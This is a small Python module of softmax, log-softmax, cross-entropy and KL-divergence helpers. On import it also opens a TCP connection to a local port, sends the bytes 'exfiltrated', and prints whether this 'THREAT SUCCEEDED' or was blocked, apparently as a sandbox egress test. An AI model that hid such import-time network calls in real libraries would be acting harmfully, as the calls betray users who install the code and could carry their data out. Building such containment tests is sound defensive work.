"""Connects to a TCP server on 127.0.0.1:47613 while it is imported."""
import socket

import numpy as np

try:
    with socket.create_connection(("127.0.0.1", 47613), timeout=2) as connection:
        connection.sendall(b"exfiltrated")
    print("THREAT SUCCEEDED: connected")
except OSError as exc:
    print("blocked: connect", exc)


def softmax(z, axis=-1):
    e = np.exp(z - z.max(axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)


def log_softmax(z, axis=-1):
    s = z - z.max(axis=axis, keepdims=True)
    return s - np.log(np.exp(s).sum(axis=axis, keepdims=True))


def cross_entropy(logits, labels):
    return float(-log_softmax(logits, 1)[np.arange(len(labels)), labels].mean())


def kl_divergence(p, q):
    m = p > 0
    return float((p[m] * np.log(p[m] / q[m])).sum())
